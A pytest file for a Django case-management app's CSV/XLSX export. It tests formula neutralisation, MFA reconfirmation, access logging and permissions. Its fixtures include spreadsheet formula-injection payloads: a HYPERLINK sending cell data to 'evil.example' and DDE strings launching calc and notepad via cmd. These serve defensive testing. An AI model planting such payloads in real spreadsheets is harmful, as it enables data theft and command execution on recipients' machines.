"""The partnership's list of cases exported to CSV and XLSX: values a spreadsheet would run as a
formula come out inert; confirming it's you first; each case's access log records the export;
the list's filters apply; nothing about the child."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import timedelta

import pytest
import time_machine
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from accord.cases.models import AccessLog, Case
from accord.documents.spreadsheets import csv_bytes, neutralised, xlsx_bytes
from tests.access.helpers import signed_in
from tests.factories import (
    EscalatedCaseFactory,
    OpenCaseFactory,
    PartnershipFactory,
    PartnershipRoleFactory,
)

pytestmark = pytest.mark.django_db

EXPORT = reverse("web:partnership-cases-export")
RISKY = {
    "raising agency": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "receiving agency": "@SUM(1+1)*cmd|' /C calc'!A0",
    "raised by": "-2+3+cmd|' /C notepad'!A0",
    "theme": "+SUM(1,2)",
}


def _risky_case() -> Case:
    partnership = PartnershipFactory()
    case = OpenCaseFactory(partnership=partnership, theme=RISKY["theme"])
    case.raising_agency.name = RISKY["raising agency"]
    case.raising_agency.save()
    case.receiving_agency.name = RISKY["receiving agency"]
    case.receiving_agency.save()
    case.raised_by.full_name = RISKY["raised by"]
    case.raised_by.save()
    return case


def _export(case: Case, kind: str) -> bytes:
    manager = PartnershipRoleFactory(partnership=case.partnership).person
    response = signed_in(manager).get(EXPORT, {"format": kind})
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Disposition"].startswith('attachment; filename="partnership-cases-')
    assert response["Content-Disposition"].endswith(f'.{kind}"')
    return bytes(response.content)


def test_formula_values_are_inert_in_csv() -> None:
    case = _risky_case()
    rows = list(csv.reader(io.StringIO(_export(case, "csv").decode("utf-8-sig"))))
    header, row = rows[0], rows[1]
    cells = dict(zip(header, row, strict=True))
    assert cells["Reference"] == case.reference
    assert cells["Raising agency"] == "'" + RISKY["raising agency"]
    assert cells["Receiving agency"] == "'" + RISKY["receiving agency"]
    assert cells["Raised by"] == "'" + RISKY["raised by"]
    assert cells["Theme"] == "'" + RISKY["theme"]
    risky_starts = tuple("=+-@\t\r")
    assert not [value for value in row if value.startswith(risky_starts)]


def test_formula_values_are_inert_in_xlsx() -> None:
    case = _risky_case()
    body = _export(case, "xlsx")
    sheet = load_workbook(io.BytesIO(body)).active
    assert sheet is not None
    header = [cell.value for cell in sheet[1]]
    cells = {name: sheet.cell(row=2, column=i + 1) for i, name in enumerate(header)}
    for column, value in [
        ("Raising agency", RISKY["raising agency"]),
        ("Receiving agency", RISKY["receiving agency"]),
        ("Raised by", RISKY["raised by"]),
        ("Theme", RISKY["theme"]),
    ]:
        cell = cells[column]
        assert cell.value == value, "the words are kept as they were"
        assert cell.data_type == "s", f"{column} is stored as text, not a formula"
        assert cell.quotePrefix, f"{column} stays text when edited"
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert not re.search(r"<f[ >]", sheet_xml), "no formula anywhere in the sheet"
    assert cells["Stage"].value == 1
    assert cells["Reference"].value == case.reference


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_every_risky_start_is_neutralised(text: str) -> None:
    assert neutralised(text) == "'" + text
    assert csv_bytes(["A"], [[text]]).decode("utf-8-sig").splitlines()[1].strip('"').startswith("'")
    cell = load_workbook(io.BytesIO(xlsx_bytes(["A"], [[text]], sheet="S"))).active["A2"]
    assert cell.data_type == "s"
    assert cell.value == text.replace("\r", "\n")  # XML reads a carriage return as a newline


def test_plain_values_are_left_alone() -> None:
    assert neutralised("Children's Social Care") == "Children's Social Care"
    assert neutralised(3) == 3


def test_an_export_needs_a_recent_confirmation() -> None:
    case = OpenCaseFactory()
    manager = PartnershipRoleFactory(partnership=case.partnership).person
    client = signed_in(manager)
    with time_machine.travel(timezone.now() + timedelta(minutes=10)):
        response = client.get(EXPORT, {"format": "csv"})
    assert response.status_code == 302
    assert response.headers["Location"].startswith(reverse("mfa_reauthenticate"))
    assert not AccessLog.objects.filter(case=case).exists()


def test_each_case_exported_is_in_its_access_log_and_filters_apply() -> None:
    partnership = PartnershipFactory()
    open_case = OpenCaseFactory(partnership=partnership)
    escalated = EscalatedCaseFactory(partnership=partnership, to_stage=2)
    elsewhere = OpenCaseFactory()
    manager = PartnershipRoleFactory(partnership=partnership).person
    response = signed_in(manager).get(EXPORT, {"format": "csv", "stage": "2"})
    text = response.content.decode("utf-8-sig")
    assert escalated.reference in text
    assert open_case.reference not in text
    assert elsewhere.reference not in text, "only the person's partnerships"
    assert "Test Child" not in text, "no child's name in an export"
    logged = AccessLog.objects.filter(action="exported in the partnership's list (CSV)")
    assert list(logged.values_list("case", "person")) == [(escalated.pk, manager.pk)]


def test_bad_choices_are_shown_in_an_error_summary() -> None:
    case = OpenCaseFactory()
    manager = PartnershipRoleFactory(partnership=case.partnership).person
    response = signed_in(manager).get(EXPORT, {"format": "pdf", "stage": "two"})
    assert response.status_code == 400
    text = response.content.decode()
    assert "<title>Error: Export the partnership’s cases – Accord</title>" in text
    assert "Choose CSV or Excel (XLSX) for the export" in text
    assert "Choose a stage from the list" in text


def test_only_those_who_open_the_partnership_list_export_it() -> None:
    case = OpenCaseFactory()
    assert signed_in(case.raised_by).get(EXPORT).status_code == 403
    panel = PartnershipRoleFactory(partnership=case.partnership, role="panel_member").person
    assert signed_in(panel).get(EXPORT).status_code == 403
    manager = PartnershipRoleFactory(partnership=case.partnership).person
    listed = signed_in(manager).get(reverse("web:partnership-cases"), {"stage": "1"}).text
    assert f"{EXPORT}?format=xlsx&amp;stage=1" in listed, "the list links to its export"
